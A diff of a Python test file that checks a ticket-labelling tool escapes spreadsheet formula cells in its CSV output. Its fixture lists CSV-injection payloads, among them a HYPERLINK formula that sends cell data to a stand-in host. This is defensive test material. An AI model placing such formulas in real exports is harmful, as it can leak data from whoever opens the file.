@@ -745,9 +745,13 @@ def test_every_format_in_and_out(
     assert result.summary["rows"] == 7 and result.summary["errors"] == 1
 
 
-def test_csv_output_gives_back_every_text_exactly(tiny_model_dir: Path, tmp_path: Path) -> None:
+@pytest.mark.parametrize("escape", [True, False])
+def test_csv_output_gives_back_every_text_exactly(
+    tiny_model_dir: Path, tmp_path: Path, escape: bool
+) -> None:
     # Quotes, the delimiter, line breaks, a leading formula sign, an empty title: the labelled CSV
-    # (with a BOM for Excel) must give each of them back unchanged to a standard CSV reader.
+    # (with a BOM for Excel) must give each of them back unchanged to a standard CSV reader, the
+    # formula with the quote that keeps Excel from running it unless --no-escape-formulas.
     texts = [
         '他说"明天再修"，结果没人来',
         "电梯坏了,三天没修",
@@ -756,13 +760,13 @@ def test_csv_output_gives_back_every_text_exactly(tiny_model_dir: Path, tmp_path
     ]
     rows = [[f"Q{i}", "" if i == 2 else "投诉", t] for i, t in enumerate(texts)]
     src = write_csv(tmp_path / "in.csv", rows)
-    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1, chunk_size=2)
+    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1, chunk_size=2, escape_formulas=escape)
     raw = (tmp_path / "out.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")
     with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
         back = list(csv.DictReader(f))
     assert [r["id"] for r in back] == ["Q0", "Q1", "Q2", "Q3"]
-    assert [r["text"] for r in back] == texts
+    assert [r["text"] for r in back] == [*texts[:3], ("'" if escape else "") + texts[3]]
     assert [r["title"] for r in back] == ["投诉", "投诉", "", "投诉"]
     assert all(r["error"] == "" and r["decision"] in ("auto", "review") for r in back)
     assert all(0 <= float(r["pred_department_score"]) <= 1 for r in back)
@@ -784,6 +788,99 @@ def test_xlsx_output_keeps_a_leading_equals_sign_as_text(
         ["X2", "投诉", texts[1]],
     ]
     assert all(c.data_type == "s" for r in rows for c in r)
+
+
+# Cells that Excel (or LibreOffice) runs as a formula when it opens a CSV file: OWASP's list.
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://x.example/?d="&C3,"点击查看附件") 拖欠工资',
+    "+1+1 小区路灯不亮",
+    "-2+3 油烟扰民",
+    "@SUM(1+1) 道路积水",
+    "\t=1+1 垃圾清运不及时",
+    "\r=1+1 噪音扰民",
+    "＝1+1 全角等号",
+]
+
+
+def formula_backlog(path: Path) -> tuple[Path, list[list[str]]]:
+    """A CSV backlog whose titles and texts begin as formulas, beside plain ones, a blank text (an
+    error row) and a number column with negative numbers."""
+    rows: list[list[str]] = []
+    for i in range(24):
+        title, text = TINY_TICKETS[i % len(TINY_TICKETS)][:2]
+        text = FORMULA_TEXTS[i % len(FORMULA_TEXTS)] if i % 3 else text
+        title = "=SUM(A1)" if i % 4 == 0 else title
+        rows.append([f"F{i:02d}", title, "" if i == 5 else text, str(-i), "'=已有引号"])
+    with open(path, "w", encoding="utf-8", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(["id", "title", "text", "amount", "note"])
+        w.writerows(rows)
+    return path, rows
+
+
+def escaped(cell: str) -> str:
+    return "'" + cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝") else cell
+
+
+def test_csv_output_escapes_formula_cells_once_also_after_a_resume(
+    tiny_model_dir: Path, tmp_path: Path
+) -> None:
+    # A citizen's "=HYPERLINK(…)" was written as it is, and Excel opened it as a live formula.
+    src, rows = formula_backlog(tmp_path / "in.csv")
+    whole = tmp_path / "whole.csv"
+    result = label([src], tiny_model_dir, whole, jobs=1, chunk_size=5)
+    out = read_output(whole)
+    # Every input row, once and in order; each formula cell with one leading quote; the numbers
+    # (-5 in a number column), the text already quoted and the labels as they are.
+    assert out["id"].tolist() == [r[0] for r in rows]
+    for column, i in (("title", 1), ("text", 2), ("amount", 3), ("note", 4)):
+        want = [escaped(r[i]) if column in ("title", "text") else r[i] for r in rows]
+        assert out[column].tolist() == want, column
+    assert out["amount"].tolist()[1:3] == ["-1", "-2"]
+    assert (out["error"] != "").sum() == 1 and out["error"][5].startswith("empty text")
+    assert out.loc[out["error"] == "", "pred_department"].ne("").all()
+    n_formulas = sum(1 for r in rows for c in r[1:3] if escaped(c) != c)
+    assert result.summary["formulas_escaped"] == n_formulas > 10
+    # Excel reads the file as text cells only: no cell begins a formula any more.
+    with open(whole, encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert not [c for c in cells if c[:1] in "=+@\t\r＝" and c]
+    assert [c for c in cells if c.startswith("-")] == [str(-i) for i in range(1, 24)]
+
+    # Interrupted after two chunks and resumed: the parts hold the cells as read, so the resumed
+    # file escapes each once, byte for byte as the uninterrupted run.
+    resumed = tmp_path / "resumed.csv"
+
+    def stop(stage: str, done: int, total: int) -> None:
+        if done >= 10:
+            raise Interrupt
+
+    with pytest.raises(Interrupt):
+        label([src], tiny_model_dir, resumed, jobs=1, chunk_size=5, progress=stop)
+    again = label([src], tiny_model_dir, resumed, jobs=1, chunk_size=5, resume=True)
+    assert again.resumed_chunks == 2
+    assert resumed.read_bytes() == whole.read_bytes()
+    assert again.summary["formulas_escaped"] == n_formulas
+
+
+def test_no_escape_formulas_writes_csv_cells_as_read(tiny_model_dir: Path, tmp_path: Path) -> None:
+    # For programs that read the file: the same cells as the input, and as JSON Lines writes them.
+    src, rows = formula_backlog(tmp_path / "in.csv")
+    args = ["label", str(src), "--model", str(tiny_model_dir), "--jobs", "1"]
+    res = CliRunner().invoke(
+        app, [*args, "--out", str(tmp_path / "raw.csv"), "--no-escape-formulas"]
+    )
+    assert res.exit_code == 0, res.output
+    raw = read_output(tmp_path / "raw.csv")
+    assert raw[["id", "title", "text", "amount", "note"]].values.tolist() == rows
+    assert "formulas_escaped" in json.loads((tmp_path / "raw.csv.summary.json").read_text())
+    res = CliRunner().invoke(app, [*args, "--out", str(tmp_path / "safe.csv")])
+    assert res.exit_code == 0, res.output
+    assert read_output(tmp_path / "safe.csv")["text"].tolist() == [escaped(r[2]) for r in rows]
+    # JSON Lines and Parquet are for programs: never changed.
+    for name in ("out.jsonl", "out.parquet"):
+        label([src], tiny_model_dir, tmp_path / name, jobs=1)
+        assert read_output(tmp_path / name)["text"].tolist() == [r[2] for r in rows]
 
 
 def test_label_refuses_a_directory_holding_a_part_it_cannot_read(
